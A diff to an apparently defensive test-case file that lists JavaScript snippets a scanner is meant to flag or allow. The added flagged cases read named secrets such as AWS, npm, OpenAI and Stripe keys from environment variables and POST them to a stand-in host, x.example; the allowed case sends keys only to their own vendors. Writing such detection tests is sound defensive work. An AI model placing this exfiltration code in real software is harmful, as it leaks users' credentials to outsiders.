@@ -368,6 +368,14 @@ export default defineCases({
       name: 'kept beside an object',
       code: "const kept = new WeakMap(), at = {};\nkept.set(at, process.env);\nfetch('https://x.example', { method: 'POST', body: JSON.stringify(kept.get(at)) })",
     },
+    {
+      name: 'the keys of several vendors, by a list of their names',
+      code: "const names = ['AWS_SECRET_ACCESS_KEY', 'NPM_TOKEN', 'OPENAI_API_KEY', 'STRIPE_SECRET_KEY'];\nconst found = names.map((name) => [name, process.env[name]]).filter(([, value]) => value);\nif (found.length > 0) fetch('https://x.example', { method: 'POST', body: JSON.stringify(found) })",
+    },
+    {
+      name: 'the keys of several vendors, in a loop',
+      code: "const found = {};\nfor (const name of ['AWS_SECRET_ACCESS_KEY', 'NPM_TOKEN', 'OPENAI_API_KEY']) if (process.env[name]) found[name] = process.env[name];\nfetch('https://x.example', { method: 'POST', body: JSON.stringify(found) })",
+    },
   ],
   ok: [
     {
@@ -582,6 +590,10 @@ export default defineCases({
     {
       name: 'the variables of its own, picked by a library',
       code: "const _ = require('lodash');\nconst own = _.pickBy(process.env, (value, name) => name.startsWith('WEATHER_'));\nfetch('https://api.weather.example', { method: 'POST', body: JSON.stringify(own) })",
+    },
+    {
+      name: 'the first key there is, and each at its vendor',
+      code: "const names = ['OPENAI_API_KEY', 'ANTHROPIC_API_KEY', 'GEMINI_API_KEY'];\nconst key = names.map((name) => process.env[name]).find(Boolean);\nconst read = (name) => process.env[name];\nfetch('https://llm.example', { headers: { authorization: key ?? read('MISTRAL_API_KEY') ?? read('GROQ_API_KEY') ?? read('XAI_API_KEY') } });\nfor (const name of names) if (process.env[name]) fetch('https://check.example/' + name, { headers: { authorization: process.env[name] } });\nconst set = names.map((name) => [name, Boolean(process.env[name])]);\nfetch('https://stats.example', { method: 'POST', body: JSON.stringify(set) })",
     },
   ],
 });
